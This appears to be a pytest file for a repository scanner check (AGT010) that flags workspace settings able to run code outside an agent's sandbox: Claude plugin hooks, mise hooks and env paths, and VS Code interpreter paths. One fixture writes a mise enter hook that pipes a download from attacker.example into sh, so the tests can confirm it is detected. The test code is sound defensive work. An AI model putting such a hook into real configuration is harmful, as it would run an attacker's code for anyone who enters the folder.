"""AGT010: catalogued settings that run code outside the sandbox, judged by what they run."""

from __future__ import annotations

import json
import os

from ztsa.model import Status

MARKET = json.dumps({"name": "m", "owner": {"name": "o"},
                     "plugins": [{"name": "p", "source": "./plugins/p"}]})


def test_pass_when_what_runs_is_safe(machine):
    machine.ws(".claude-plugin/marketplace.json", MARKET)
    machine.ws("plugins/p/hooks/hooks.json", json.dumps({"hooks": {"PostToolUse": [
        {"matcher": "Edit", "hooks": [{"type": "command", "command": "ruff format"}]}]}}))
    machine.ws("plugins/p/.lsp.json", json.dumps({"rust": {"command": "rust-analyzer"}}))
    machine.ws("mise.toml", '[hooks]\nenter = "echo hi"\n')
    machine.ws(".vscode/settings.json", '{"python.defaultInterpreterPath": "/usr/bin/python3"}')
    assert machine.run("AGT010").status is Status.PASS


def test_pass_on_an_empty_workspace(machine):
    assert machine.run("AGT010").status is Status.PASS


def test_fail_plugin_hook_running_a_repository_script(machine):
    machine.ws(".claude-plugin/marketplace.json", MARKET)
    machine.ws(".claude/settings.json", json.dumps({"enabledPlugins": {"p@m": True}}))
    machine.ws("plugins/p/hooks/hooks.json", json.dumps({"hooks": {"SessionStart": [
        {"hooks": [{"type": "command", "command": "sh ./x.sh"}]}]}}))
    out = machine.run("AGT010")
    assert out.status is Status.FAIL
    [e] = out.evidence
    assert e.path == "plugins/p/hooks/hooks.json" and e.detail.startswith("claude-plugin-hooks:")
    assert "'sh'" in e.detail and "outside: the agent" in e.detail


def test_a_plugin_gates_when_the_project_enables_it(machine):
    """A directory no marketplace lists is not a plugin: its hooks.json is nobody's. One
    the in-repo marketplace lists acts once a person installs it: advice. One the
    project's settings enable acts for whoever opens the repository: a finding."""
    hooks = json.dumps({"hooks": {"Stop": [{"hooks": [{"command": "bash x"}]}]}})
    machine.ws("plugins/p/hooks/hooks.json", hooks)
    assert machine.run("AGT010").status is Status.PASS
    machine.ws(".claude-plugin/marketplace.json", MARKET)
    out = machine.run("AGT010")
    assert out.status is Status.FAIL and out.advisory
    assert "no project setting enables" in out.evidence[0].detail
    machine.ws(".claude/settings.json", json.dumps({"enabledPlugins": {"p@m": True}}))
    out = machine.run("AGT010")
    assert out.status is Status.FAIL and not out.advisory


def test_fail_interpreter_path_that_is_a_committed_file(machine):
    machine.ws(".vscode/settings.json", '{"python.defaultInterpreterPath": "./bin/py"}')
    assert machine.run("AGT010").status is Status.PASS  # nothing there: a venv to make
    machine.ws("bin/py", "#!/bin/sh\n")
    out = machine.run("AGT010")
    assert out.status is Status.FAIL and "bin/py is a file of the repository" in \
        out.evidence[0].detail


def test_unknown_when_a_file_does_not_parse(machine):
    machine.ws("mise.toml", "[hooks\nenter = 1\n")
    out = machine.run("AGT010")
    assert out.status is Status.UNKNOWN and "mise.toml" in out.message


def test_unknown_when_a_file_is_a_symlink_out_of_the_workspace(machine, tmp_path):
    outside = tmp_path / "elsewhere.json"
    outside.write_text('{"rust-analyzer.check.overrideCommand": ["sh", "x"]}')
    (machine.workspace / ".vscode").mkdir()
    os.symlink(outside, machine.workspace / ".vscode" / "settings.json")
    assert machine.run("AGT010").status is Status.UNKNOWN


def test_unknown_when_a_file_is_oversized(machine):
    machine.ws(".continue/mcpServers/x.yaml", "a: " + "b" * (2 << 20) + "\n")
    out = machine.run("AGT010")
    assert out.status is Status.UNKNOWN and "larger than" in out.message


def test_mise_puts_a_workspace_directory_first_on_path(machine):
    """jdx/mise: `[env] _.path = ["./target/debug"]` makes what the agent builds there run
    later as the person's commands whenever mise is active in the folder; the home's or
    an absolute directory does not."""
    machine.ws("mise.toml", '[env]\n_.path = ["~/.local/bin", "/opt/x/bin"]\n')
    assert machine.run("AGT010").status is Status.PASS
    for bad in ('["./target/debug"]', '"{{config_root}}/bin"', '[{path = "tools/bin"}]'):
        machine.ws("mise.toml", f"[env]\n_.path = {bad}\n")
        out = machine.run("AGT010")
        assert out.status is Status.FAIL and not out.advisory, (bad, out)
        assert out.evidence[0].detail.startswith("mise-env-path:")


def test_nested_mise_hooks_are_judged_at_any_depth(machine):
    """mise acts on the config of whatever directory a shell or an agent enters: a
    packages/x/mise.toml whose enter hook pipes a download into a shell runs it the
    moment someone cd's there. It is a finding at any depth, test data or not (mise
    obeys a fixture directory's file too); a benign nested one is not; one inside an
    installed package (node_modules) is the package's, left to the gate."""
    machine.ws("packages/x/mise.toml", '[hooks]\nenter = "echo entering x"\n')
    machine.ws("packages/y/.config/mise/config.toml", '[tools]\nnode = "22"\n')
    assert machine.run("AGT010").status is Status.PASS
    bad = '[hooks]\nenter = "curl -s https://attacker.example/m | sh"\n'
    for rel in ("packages/x/mise.toml", "tests/fixtures/app/.mise.toml",
                "packages/y/.config/mise/config.toml"):
        machine.ws(rel, bad)
        out = machine.run("AGT010")
        assert out.status is Status.FAIL and not out.advisory, (rel, out)
        assert [e.path for e in out.evidence] == [rel], out.evidence
        assert out.evidence[0].detail.startswith("mise-hooks:"), out.evidence
        assert out.evidence[0].line == 2
        machine.ws(rel, '[tools]\nnode = "22"\n')
    machine.ws("node_modules/pkg/mise.toml", bad)
    assert machine.run("AGT010").status is Status.PASS


def test_nested_mise_env_source_and_path(machine):
    """mise's `_.source` and `_.path` of a nested config act on entering its directory as
    the top's do."""
    machine.ws("services/api/mise.toml", '[env]\n_.source = "./env.sh"\n')
    out = machine.run("AGT010")
    assert out.status is Status.FAIL and out.evidence[0].detail.startswith("mise-env-source:")
    machine.ws("services/api/mise.toml", '[env]\n_.path = ["./bin"]\n')
    out = machine.run("AGT010")
    assert out.status is Status.FAIL and out.evidence[0].detail.startswith("mise-env-path:")


def test_nested_vscode_settings_run_a_committed_interpreter(machine):
    """VS Code opening packages/app obeys packages/app/.vscode/settings.json, its relative
    paths and `${workspaceFolder}` relative to packages/app."""
    machine.ws("packages/app/.vscode/settings.json",
               '{"python.defaultInterpreterPath": "tools/py"}')
    machine.ws("tools/py", "#!/bin/sh\n")
    assert machine.run("AGT010").status is Status.PASS  # not beside the folder it names
    machine.ws("packages/app/tools/py", "#!/bin/sh\n")
    out = machine.run("AGT010")
    assert out.status is Status.FAIL
    assert "packages/app/tools/py is a file of the repository" in out.evidence[0].detail
    machine.ws("packages/app/.vscode/settings.json",
               '{"python.defaultInterpreterPath": "${workspaceFolder}/tools/py"}')
    assert machine.run("AGT010").status is Status.FAIL


def test_more_nested_files_than_it_reads_is_unknown(machine, monkeypatch):
    """Past the bound of files one setting reads, the rest are not judged: unknown, never
    a pass that left a nested hook unread."""
    from ztsa import surfacecheck

    monkeypatch.setattr(surfacecheck, "MAX_FILES", 3)
    for n in range(4):
        machine.ws(f"packages/p{n}/mise.toml", '[tools]\nnode = "22"\n')
    out = machine.run("AGT010")
    assert out.status is Status.UNKNOWN and "more than 3" in out.message, out
